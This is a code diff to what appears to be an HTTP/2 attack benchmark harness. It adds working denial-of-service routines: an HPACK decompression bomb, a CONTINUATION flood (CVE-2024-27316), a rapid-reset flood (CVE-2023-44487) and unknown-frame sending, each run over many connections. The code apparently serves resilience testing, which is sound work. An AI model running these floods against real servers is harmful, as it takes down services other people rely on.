@@ -5,11 +5,14 @@ from typing import Final
 
 import h2.config
 import h2.connection
+import hpack
 
 from benchmarks.attacks.target import Target, flood, keep, many
 
 _CONNECTIONS: Final = 12
 _AT_ONCE_BYTES: Final = 1 << 18
+_ENDS: Final = 0x1 | 0x4
+"""Stream and header block."""
 
 
 def _frame(kind: int, payload: bytes, *, stream: int = 0, flags: int = 0) -> bytes:
@@ -23,6 +26,22 @@ def _opened(target: Target) -> bytes:
     head = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/bytes/1")]
     connection.send_headers(1, [*head, (b":authority", target.authority.encode())])
     return connection.data_to_send()
+
+
+def _head(target: Target) -> list[tuple[bytes, bytes]]:
+    head = [(b":method", b"GET"), (b":scheme", b"https"), (b":path", b"/bytes/1")]
+    return [*head, (b":authority", target.authority.encode())]
+
+
+async def _requests(target: Target, sent: bytes) -> None:
+    """``sent`` over a connection of its own, again and again."""
+
+    async def once() -> None:
+        pair = await target.tunnel(http2=True)
+        pair[1].write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(0x4, b"") + sent)
+        await keep(target, pair)
+
+    await many(target, _CONNECTIONS, once)
 
 
 async def _frames(target: Target, frame: bytes) -> None:
@@ -63,6 +82,39 @@ async def downloads_without_a_window(target: Target) -> None:
         await keep(target, pair)
 
     await many(target, 100, once)
+
+
+async def large_header_blocks(target: Target) -> None:
+    """Blocks of 16 KB that name one field of the dynamic table again and again: 64 MB decoded (RFC 7541, 7.3)."""
+    encoder = hpack.Encoder()
+    block = encoder.encode([*_head(target), (b"a", b"x" * 4000)], huffman=False)
+    again = encoder.encode(_head(target), huffman=False) + b"\xbe" * 16_000
+    streams = range(3, 67, 2)
+    sent = _frame(0x1, block, stream=1, flags=_ENDS) + b"".join(
+        _frame(0x1, again, stream=stream, flags=_ENDS) for stream in streams
+    )
+    await _requests(target, sent)
+
+
+async def continued_header_blocks(target: Target) -> None:
+    """A block that goes on, frame after frame, and never ends (CVE-2024-27316)."""
+    field = hpack.Encoder().encode([(b"a", b"x" * 100)], huffman=False)
+    sent = _frame(0x1, hpack.Encoder().encode(_head(target), huffman=False), stream=1)
+    await _requests(target, sent + _frame(0x9, field * 9, stream=1) * 2000)
+
+
+async def requests_taken_back(target: Target) -> None:
+    """Requests that are reset at once (CVE-2023-44487)."""
+    encoder, sent = hpack.Encoder(), bytearray()
+    for stream in range(1, 4001, 2):
+        sent += _frame(0x1, encoder.encode(_head(target)), stream=stream, flags=_ENDS)
+        sent += _frame(0x3, struct.pack(">I", 8), stream=stream)
+    await _requests(target, bytes(sent))
+
+
+async def unknown_frames(target: Target) -> None:
+    """Of a kind that nobody defined, which is to be ignored (RFC 9113, 4.1)."""
+    await _frames(target, _frame(0xFA, b""))
 
 
 async def tiny_data(target: Target) -> None:
